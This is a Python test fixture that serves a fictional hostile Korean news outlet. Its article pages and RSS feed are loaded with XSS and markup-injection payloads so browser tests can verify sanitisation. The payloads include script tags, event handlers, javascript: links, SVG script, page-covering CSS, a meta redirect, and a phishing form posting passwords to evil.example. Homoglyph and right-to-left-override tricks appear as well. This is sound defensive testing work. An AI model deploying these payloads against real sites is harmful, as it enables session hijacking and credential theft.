"""`/_hostile/`: an outlet whose articles and feed entries attack the pages that show them.

Served beside the sample outlets but never in `SampleOutlets.feeds()` or the demo: only
tests/browser/test_hostile.py subscribes to `FEED_PATH`. The outlet, 악성일보, is fictional.

Every payload that would run reports itself the same way, so one check catches them all: it sets
`window.__pwned` (and `document.title`) to its case name or opens a dialog. The cases:

    script      <script> in title, body and feed summary; one that closes a JSON-LD block;
                a title that is "</script><script>…" as escaped text
    handlers    on* attributes: onerror, onload, onmouseover, ontoggle, onfocus with autofocus
    links       javascript:, data: and vbscript: links, entity-encoded and mixed-case schemes,
                and javascript: as the page's canonical URL and og:image
    svg         inline <svg> with script and onload; an SVG with script as <img>, <object>,
                <embed>, <iframe> and as a data: image
    css         <style> that hides the page, style attributes, a position:fixed overlay over
                the whole window, <link rel=stylesheet>, a huge font
    markup      <meta refresh>, <base href>, a phishing <form>, <iframe srcdoc>, <template>
    unicode     look-alike (Cyrillic) letters in a headline and a link, a U+202E right-to-left
                override that would flip the rest of a row, zero-width characters
    huge-title  a title of 1 MB in the feed and on the page
    quiet-N     ordinary articles, so the board has more than one page of this outlet

Pure: no Django.
"""

from __future__ import annotations

import html
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from email.utils import format_datetime
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from newsrank.demo.server import Handler, Reply

PREFIX = "/_hostile/"
FEED_PATH = PREFIX + "rss.xml"
SVG_PATH = PREFIX + "evil.svg"
OUTLET = "악성일보"
HUGE_TITLE_BYTES = 1024 * 1024

# The payload every case runs if it gets the chance; `{case}` names the case.
JS = "window.__pwned='{case}';document.title='PWNED {case}'"
_TEXT = (
    "악성일보 편집국은 이 기사가 시험용 가상 기사라고 밝혔다. 본문의 정상 문단은 그대로 남아야 "
    "하며 독자는 제목을 눌러 기사를 읽을 수 있어야 한다.",
    "시험구청은 다음 달부터 주민센터 열 곳의 민원 창구 운영 시간을 저녁 여덟 시까지 늘린다고 "
    "밝혔다. 구청 관계자는 퇴근 뒤에 들르는 주민이 많아 내린 결정이라고 설명했다.",
    "구청은 연장 운영에 필요한 인력을 기존 직원의 순환 근무로 충당하고, 석 달 동안 이용 "
    "현황을 살펴 운영 방식을 다시 정하기로 했다.",
)


def js(case: str) -> str:
    return JS.format(case=case)


def _attr(text: str) -> str:
    return html.escape(text, quote=True)


@dataclass(frozen=True)
class Case:
    """One hostile article: its feed entry and its page."""

    slug: str
    title: str  # as the outlet writes it, markup and all (escaped once in the feed's XML)
    body: str  # raw HTML inside the article element
    summary: str = ""  # the feed entry's description (HTML, escaped in the XML)
    head: str = ""  # raw HTML added to the page's <head>
    canonical: str = ""  # the page's <link rel=canonical>, raw
    body_id: str = ""  # the body container's id, for a CMS whose site rule reads it

    @property
    def path(self) -> str:
        if self.body_id == "article-view-content-div":  # the ND Soft CMS's address scheme
            return f"{PREFIX}news/articleView.html?idxno={len(self.slug) * 111}"
        return f"{PREFIX}a/{self.slug}.html"


def _paragraphs(*extra: str) -> str:
    middle = "\n".join(extra)
    return f"<p>{_TEXT[0]}</p>\n{middle}\n<p>{_TEXT[1]}</p>\n<p>{_TEXT[2]}</p>"


def cases() -> list[Case]:
    """The hostile articles, newest first."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="{0}"><script>{0}</script>'
        '<a href="javascript:{0}"><text y="20">SVG 링크</text></a></svg>'
    )
    data_svg = "data:image/svg+xml;utf8," + _attr(svg.format(js("svg-data")))
    ld_breakout = json.dumps({"headline": "x"})[:-1] + f', "a": "</script><script>{js("ld")}//"}}'
    found = [
        Case(
            "script",
            f"<script>{js('title')}</script>스크립트가 든 제목의 기사",
            _paragraphs(
                f"<script>{js('body')}</script>",
                f"<SCRIPT SRC=/_hostile/evil.js></SCRIPT><scr<script>ipt>{js('split')}</script>",
                f'<script type="application/ld+json">{ld_breakout}</script>',
            ),
            summary=f"<p>요약 <script>{js('summary')}</script></p>",
            head=f"<script>{js('head')}</script>",
        ),
        Case(
            "entity-title",
            f"&lt;img src=x onerror=&quot;{js('entity-title')}&quot;&gt; 꺾쇠가 글자인 제목",
            _paragraphs(f"<p>글자로 쓴 &lt;script&gt;{js('entity-body')}&lt;/script&gt;</p>"),
        ),
        Case(
            "markup-title",
            # Escaped once more than markup: "</script>" as text, which a reader might see
            # in <title>, og:title, JSON-LD, the feeds and the API.
            f"&lt;/script&gt;&lt;script&gt;{js('markup-title')}&lt;/script&gt; 태그가 글자인 제목",
            _paragraphs("<p>제목에 글자로 된 태그가 있다.</p>"),
        ),
        Case(
            "handlers",
            '이벤트 처리기가 붙은 기사 <b onmouseover="' + js("title-handler") + '">굵게</b>',
            _paragraphs(
                f'<img src="/_hostile/nothing.jpg" onerror="{js("onerror")}" alt="사진">',
                f'<p onmouseover="{js("onmouseover")}" onclick="{js("onclick")}">문단</p>',
                f'<details open ontoggle="{js("ontoggle")}"><summary>요약</summary></details>',
                f'<input autofocus onfocus="{js("onfocus")}">',
                f'<video><source onerror="{js("video")}"></video>',
                f'<body onload="{js("body-onload")}">',
            ),
            summary=f'<img src=x onerror="{js("summary-img")}">',
        ),
        Case(
            "links",
            "위험한 링크가 든 기사",
            _paragraphs(
                f'<p><a href="javascript:{js("js-link")}">자바스크립트 링크</a></p>',
                f'<p><a href="JaVaScRiPt:{js("mixed-case")}">대소문자 링크</a></p>',
                f'<p><a href="&#106;avascript:{js("entity-link")}">엔티티 링크</a></p>',
                f'<p><a href="java&#x09;script:{js("tab-link")}">탭 링크</a></p>',
                '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
                "데이터 링크</a></p>",
                '<p><a href="vbscript:msgbox(1)">VB 링크</a></p>',
                '<p><a href="https://news.example/" target="_top">정상 링크</a></p>',
            ),
            head=f'<meta property="og:image" content="javascript:{_attr(js("og-image"))}">',
            canonical=f"javascript:{js('canonical')}",
        ),
        Case(
            "svg",
            "SVG가 든 기사",
            _paragraphs(
                svg.format(js("svg-inline")),
                f'<p><img src="{SVG_PATH}" alt="SVG 그림"></p>',
                f'<p><img src="{_attr(data_svg)}" alt="데이터 SVG"></p>',
                f'<object data="{SVG_PATH}" type="image/svg+xml"></object>',
                f'<embed src="{SVG_PATH}" type="image/svg+xml">',
                f'<iframe src="{SVG_PATH}"></iframe>',
                f'<math><mi xlink:href="javascript:{js("mathml")}">수식</mi></math>',
            ),
        ),
        Case(
            "css",
            "화면을 덮는 CSS가 든 기사",
            _paragraphs(
                "<style>body{display:none!important} h1{visibility:hidden}</style>",
                '<link rel="stylesheet" href="/_hostile/evil.css">',
                '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;'
                'background:#fff">가짜 로그인 창: 비밀번호를 입력하세요</div>',
                '<p style="font-size:400px;line-height:1">거대한 글자</p>',
                '<p style="background:url(javascript:alert(1))">배경</p>',
                '<p class="skip" id="content">아이디를 가로채는 문단</p>',
            ),
            head="<style>body{display:none}</style>",
        ),
        Case(
            "markup",
            "페이지를 바꾸려는 태그가 든 기사",
            _paragraphs(
                '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
                '<base href="https://evil.example/">',
                '<form action="https://evil.example/steal" method="post"><p>비밀번호</p>'
                '<input type="password" name="pw"><button>로그인</button></form>',
                f'<iframe srcdoc="&lt;script&gt;{_attr(js("srcdoc"))}&lt;/script&gt;"></iframe>',
                f"<template><script>{js('template')}</script></template>",
                f'<noscript><p title="</noscript><img src=x onerror={js("noscript")}>">'
                "</p></noscript>",
                f"<!-- <script>{js('comment')}</script> -->",
            ),
        ),
        Case(
            "lookalike",
            "가람일보 속보: Pаypаl 계정 확인 요청\u202e 사기 주의 \u202dOK",
            _paragraphs(
                '<p><a href="https://xn--pypl-53dc.example/">раураl.example 로그인</a></p>',
                "<p>오른쪽에서 왼쪽으로 \u202egnp.exe 파일을 여세요</p>",
                "<p>보이지\u200b않는\u200c글자\u200d가\ufeff든 문단</p>",
            ),
        ),
        Case(
            "zero-width",
            "제\u200b로\u200c폭\u200d 문\u2060자가\ufeff 든 제목\u2066\u2067\u2068",
            _paragraphs("<p>제\u200b로\u200b폭 문자가 든 문단</p>"),
        ),
        Case(
            "ndsoft",
            "사이트 규칙으로 읽히는 기사",
            _paragraphs(
                f'<p onclick="{js("rule-onclick")}">규칙 본문 <a href="javascript:{js("rule-link")}">'
                f'링크</a><img src="{SVG_PATH}" onerror="{js("rule-img")}"></p>',
                f"<script>{js('rule-script')}</script>",
                '<div style="position:fixed;inset:0;z-index:99999;background:#fff">덮개</div>',
            ),
            body_id="article-view-content-div",
        ),
        Case(
            "huge-title",
            "아주 긴 제목 " + "가나다라마바사아자차카타파하 " * (HUGE_TITLE_BYTES // 43),
            _paragraphs("<p>제목이 1MB인 기사다.</p>"),
        ),
    ]
    quiet = [
        Case(
            f"quiet-{n}",
            f"시험구 주민센터 {n}곳 저녁 운영 소식 {n}",
            _paragraphs(f"<p>주민센터 {n}곳의 운영 소식이다.</p>"),
        )
        for n in range(1, 15)
    ]
    return found + quiet


EVIL_SVG = (
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60" '
    f'onload="{js("svg-file-onload")}"><script>{js("svg-file")}</script>'
    '<rect width="200" height="60" fill="#c00"/><text x="10" y="35" fill="#fff">SVG</text></svg>'
).encode()


def routes(*, base_url: Callable[[], str], start: datetime) -> dict[str, Handler]:
    """The /_hostile/ paths. `base_url` is asked per request: the port is known only once serving."""
    from newsrank.demo.server import Reply

    found = cases()

    def page(case: Case) -> Handler:
        def answer(headers: Mapping[str, str]) -> Reply:
            canonical = case.canonical or base_url() + case.path
            document = (
                '<!DOCTYPE html>\n<html lang="ko"><head><meta charset="utf-8">'
                f"<title>{case.title}</title>"
                f'<meta property="og:title" content="{_attr(case.title)}">'
                f'<meta property="og:site_name" content="{OUTLET}">'
                '<meta property="og:type" content="article">'
                f'<link rel="canonical" href="{canonical}">{case.head}</head>'
                f"<body><article><h1>{case.title}</h1>"
                '<p class="byline">시험 기자 test@hostile.example</p>'
                f'<div class="article_body" id="{case.body_id or "body"}">{case.body}</div>'
                "</article></body></html>"
            )
            return Reply(200, document.encode("utf-8"))

        return answer

    def feed(headers: Mapping[str, str]) -> Reply:
        base = base_url()
        items = []
        for n, case in enumerate(found):
            published = format_datetime(start - timedelta(minutes=5 * (n + 1)))
            summary = case.summary or f"<p>{_TEXT[0]}</p>"
            items.append(
                f"<item><title>{html.escape(case.title, quote=False)}</title>"
                f"<link>{base}{case.path}</link><guid>{base}{case.path}</guid>"
                f"<pubDate>{published}</pubDate>"
                f"<description>{html.escape(summary, quote=False)}</description>"
                f"<author>test@hostile.example (<script>{js('author')}</script>)</author></item>"
            )
        document = (
            '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
            f"<title>{OUTLET}</title><link>{base}{PREFIX}</link>"
            f"<description>{OUTLET} &lt;script&gt;{js('channel')}&lt;/script&gt;</description>"
            + "\n".join(items)
            + "</channel></rss>\n"
        )
        return Reply(200, document.encode("utf-8"), "application/rss+xml; charset=utf-8")

    def home(headers: Mapping[str, str]) -> Reply:
        links = "".join(f'<li><a href="{c.path}">{c.slug}</a></li>' for c in found)
        document = (
            f'<!DOCTYPE html><html lang="ko"><head><meta charset="utf-8"><title>{OUTLET}</title>'
            f'<link rel="alternate" type="application/rss+xml" href="{FEED_PATH}"></head>'
            f"<body><h1>{OUTLET}</h1><ul>{links}</ul></body></html>"
        )
        return Reply(200, document.encode("utf-8"))

    def svg_file(headers: Mapping[str, str]) -> Reply:
        return Reply(200, EVIL_SVG, "image/svg+xml")

    def css_file(headers: Mapping[str, str]) -> Reply:
        return Reply(200, b"body{display:none}", "text/css")

    def js_file(headers: Mapping[str, str]) -> Reply:
        return Reply(200, js("script-file").encode(), "text/javascript")

    served: dict[str, Handler] = {
        PREFIX: home,
        FEED_PATH: feed,
        SVG_PATH: svg_file,
        PREFIX + "evil.css": css_file,
        PREFIX + "evil.js": js_file,
    }
    served.update({case.path: page(case) for case in found})
    return served
